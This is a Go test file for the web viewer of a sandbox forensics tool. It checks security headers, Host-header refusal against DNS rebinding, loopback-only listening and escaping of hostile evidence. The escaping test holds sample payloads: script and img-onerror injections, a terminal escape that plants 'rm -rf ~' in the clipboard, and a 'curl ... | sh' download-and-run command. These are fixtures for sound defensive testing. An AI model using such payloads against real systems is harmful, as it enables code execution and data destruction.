package web

import (
	"context"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/crucible-sandbox/crucible/internal/forensics"
	ft "github.com/crucible-sandbox/crucible/internal/forensics/forensicstest"
)

var start = time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC)

// hostileTimeline is the scripted scenario plus the hostile evidence.
func hostileTimeline(t testing.TB) *forensics.Timeline {
	t.Helper()
	e := ft.Scenario(start)
	e.Merge(ft.Hostile(start.Add(2 * time.Minute)))
	tl, err := forensics.Collect(context.Background(), ft.NewMemory(e).Clients(),
		forensics.Options{Locations: e.Locations})
	if err != nil {
		t.Fatal(err)
	}
	return tl
}

// reply is what the handler answered.
type reply struct {
	StatusCode int
	Header     http.Header
}

func get(t *testing.T, h http.Handler, method, path, host string) (reply, string) {
	t.Helper()
	req := httptest.NewRequest(method, path, nil)
	req.Host = host
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, req)
	return reply{StatusCode: rec.Code, Header: rec.Header()}, rec.Body.String()
}

func newTestHandler(t *testing.T) *Handler {
	t.Helper()
	h, err := NewHandler(hostileTimeline(t), []string{"127.0.0.1:8080", "localhost:8080"})
	if err != nil {
		t.Fatal(err)
	}
	return h
}

func TestEveryResponseCarriesTheStrictHeaders(t *testing.T) {
	h := newTestHandler(t)
	for _, path := range []string{"/", "/sessions/0", "/static/app.js", "/nope"} {
		res, _ := get(t, h, http.MethodGet, path, "127.0.0.1:8080")
		want := map[string]string{
			"Content-Security-Policy": "default-src 'none'; script-src 'self'; style-src 'self'; " +
				"img-src 'self'; connect-src 'none'; base-uri 'none'; form-action 'none'; " +
				"frame-ancestors 'none'; require-trusted-types-for 'script'",
			"X-Content-Type-Options": "nosniff",
			"X-Frame-Options":        "DENY",
			"Referrer-Policy":        "no-referrer",
			"Cache-Control":          "no-store",
		}
		for name, value := range want {
			if got := res.Header.Get(name); got != value {
				t.Errorf("%s: %s = %q, want %q", path, name, got, value)
			}
		}
	}
}

func TestThePageIsReadOnly(t *testing.T) {
	h := newTestHandler(t)
	for _, method := range []string{"POST", "PUT", "DELETE", "PATCH", "OPTIONS"} {
		res, _ := get(t, h, method, "/", "127.0.0.1:8080")
		if res.StatusCode != http.StatusMethodNotAllowed || res.Header.Get("Allow") != "GET, HEAD" {
			t.Errorf("%s / = %d Allow=%q, want 405 with Allow: GET, HEAD", method, res.StatusCode,
				res.Header.Get("Allow"))
		}
	}
	if res, _ := get(t, h, http.MethodHead, "/", "127.0.0.1:8080"); res.StatusCode != 200 {
		t.Errorf("HEAD / = %d, want 200", res.StatusCode)
	}
}

func TestAnotherHostNameIsRefused(t *testing.T) {
	h := newTestHandler(t)
	// A DNS-rebinding page would reach the loopback server under its own name.
	res, body := get(t, h, http.MethodGet, "/", "attacker.example:8080")
	if res.StatusCode != http.StatusMisdirectedRequest || strings.Contains(body, ft.SessionID) {
		t.Fatalf("Host attacker.example = %d, want 421 and no evidence", res.StatusCode)
	}
	if res, _ := get(t, h, http.MethodGet, "/", "localhost:8080"); res.StatusCode != 200 {
		t.Fatalf("Host localhost:8080 = %d, want 200", res.StatusCode)
	}
}

func TestHostileTextIsEscapedEverywhere(t *testing.T) {
	h := newTestHandler(t)
	_, index := get(t, h, http.MethodGet, "/", "127.0.0.1:8080")

	var hostile int
	for i, s := range h.timeline.Sessions {
		if s.ID == ft.HostileSessionID {
			hostile = i
		}
	}
	_, transcript := get(t, h, http.MethodGet, "/sessions/"+strconv.Itoa(hostile), "127.0.0.1:8080")

	for name, body := range map[string]string{"index": index, "transcript": transcript} {
		if strings.Contains(body, "<script>window") || strings.Contains(body, "<img") ||
			strings.Contains(body, "onerror=\"") {
			t.Errorf("%s page carries live markup from the evidence", name)
		}
		if strings.ContainsAny(body, "\x1b\x07\r") {
			t.Errorf("%s page carries raw control characters", name)
		}
		if strings.Count(body, "<script") != 1 {
			t.Errorf("%s page has %d script elements, want only the embedded app.js", name,
				strings.Count(body, "<script"))
		}
	}

	if !strings.Contains(index, "&lt;script&gt;window.crucibleInjected=1&lt;/script&gt;.x.example.") {
		t.Error("index does not show the hostile query name as text")
	}
	wantTranscript := []string{
		"&lt;script&gt;window.crucibleInjected=1&lt;/script&gt;",
		"&#34;&gt;&lt;img src=x onerror=&#34;window.crucibleInjected=2&#34;&gt;",
		`\x1b[2J\x1b[Hscreen cleared\x1b]52;c;cm0gLXJmIH4=\x07`,
		`curl http://203.0.113.66/x | sh\rls -la`,
		"[crucible: line 7 of 3145730 bytes not shown; it is in the raw object]",
	}
	for _, want := range wantTranscript {
		if !strings.Contains(transcript, want) {
			t.Errorf("transcript page does not show %q", want)
		}
	}
}

func TestUnknownSessionsAreNotFound(t *testing.T) {
	h := newTestHandler(t)
	for _, path := range []string{
		"/sessions/99", "/sessions/-1", "/sessions/01", "/sessions/x",
		"/sessions/", "/static/../server.go", "/templates/index.html",
	} {
		if res, _ := get(t, h, http.MethodGet, path, "127.0.0.1:8080"); res.StatusCode != 404 {
			t.Errorf("GET %s = %d, want 404", path, res.StatusCode)
		}
	}
}

func TestAssetsAreEmbeddedWithTheirTypes(t *testing.T) {
	h := newTestHandler(t)
	for path, typ := range map[string]string{
		"/static/app.js":  "text/javascript; charset=utf-8",
		"/static/app.css": "text/css; charset=utf-8",
	} {
		res, body := get(t, h, http.MethodGet, path, "127.0.0.1:8080")
		if res.StatusCode != 200 || res.Header.Get("Content-Type") != typ || len(body) < 100 {
			t.Errorf("GET %s = %d %q (%d bytes), want 200 %q", path, res.StatusCode,
				res.Header.Get("Content-Type"), len(body), typ)
		}
	}
}

func TestListenDefaultsToLoopbackAndNeedsAnExplicitHost(t *testing.T) {
	var warnings strings.Builder
	ln, hosts, err := Listen("127.0.0.1:0", &warnings)
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	port := ln.Addr().String()[len("127.0.0.1:"):]
	want := "localhost:" + port + " 127.0.0.1:" + port + " [::1]:" + port + " 127.0.0.1:" + port
	if strings.Join(hosts, " ") != want || warnings.Len() != 0 {
		t.Fatalf("hosts = %v warnings=%q, want %s and no warning", hosts, warnings.String(), want)
	}

	if _, _, err := Listen(":0", &warnings); err == nil || !strings.Contains(err.Error(), "--addr") {
		t.Fatalf("Listen(\":0\") error = %v, want a refusal naming --addr", err)
	}
	if DefaultAddr != "127.0.0.1:8080" {
		t.Fatalf("DefaultAddr = %s, want loopback 127.0.0.1:8080", DefaultAddr)
	}
}

func TestEveryInterfaceStillRefusesForeignHostHeaders(t *testing.T) {
	var warnings strings.Builder
	ln, hosts, err := Listen("0.0.0.0:0", &warnings)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(warnings.String(), "which is not loopback") {
		t.Fatalf("warning %q, want one saying the address is not loopback", warnings.String())
	}
	ctx, cancel := context.WithCancel(context.Background())
	served := make(chan error, 1)
	go func() { served <- Serve(ctx, ln, hosts, hostileTimeline(t)) }()
	defer func() {
		cancel()
		if err := <-served; err != nil {
			t.Error(err)
		}
	}()

	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
	hostname, err := os.Hostname()
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]int{
		"evil.example:" + port:     http.StatusMisdirectedRequest,
		"127.0.0.1.nip.io:" + port: http.StatusMisdirectedRequest,
		"127.0.0.1:" + port:        http.StatusOK,
		"localhost:" + port:        http.StatusOK,
		"[::1]:" + port:            http.StatusOK,
		hostname + ":" + port:      http.StatusOK,
	}
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addrs {
		if prefix, ok := a.(*net.IPNet); ok {
			want[net.JoinHostPort(prefix.IP.String(), port)] = http.StatusOK
		}
	}

	for host, code := range want {
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://127.0.0.1:"+port+"/",
			nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Host = host
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		_ = res.Body.Close()
		if res.StatusCode != code {
			t.Errorf("Host %s: %d, want %d", host, res.StatusCode, code)
		}
	}
}

func TestHostHeadersOnPort80IncludeTheBareName(t *testing.T) {
	got := strings.Join(hostHeaders([]string{"review.example", "::1"}, "80"), " ")
	want := "review.example:80 review.example [::1]:80 [::1]"
	if got != want {
		t.Fatalf("hostHeaders = %q, want %q", got, want)
	}
	got = strings.Join(hostHeaders([]string{"review.example"}, "8080"), " ")
	if got != "review.example:8080" {
		t.Fatalf("hostHeaders = %q, want only review.example:8080", got)
	}
}
